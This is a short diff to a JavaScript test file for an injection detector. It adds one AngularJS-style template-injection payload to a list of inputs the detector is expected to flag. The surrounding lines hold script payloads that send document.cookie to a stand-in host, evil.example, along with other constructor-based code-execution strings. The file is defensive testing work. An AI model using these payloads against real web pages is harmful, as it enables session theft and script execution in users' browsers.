@@ -17,6 +17,7 @@ test.each([
   '<script>fetch("//evil.example/"+document.cookie);\n//import a from "b"\n</script>',
   '<script> element;fetch("//evil.example/"+document.cookie)</script>',
   "{{{a:'{'}|json}}{{constructor.constructor('alert(1)')()}}",
+  "{{{a:/{/,b:constructor.constructor('alert(1)')()} }}",
   "{{ {a:'{'}, constructor.constructor('alert(1)')() }}",
 ])('others are found: %j', (text) => {
   expect(confidenceOf(text)).toBeGreaterThanOrEqual(0.5);
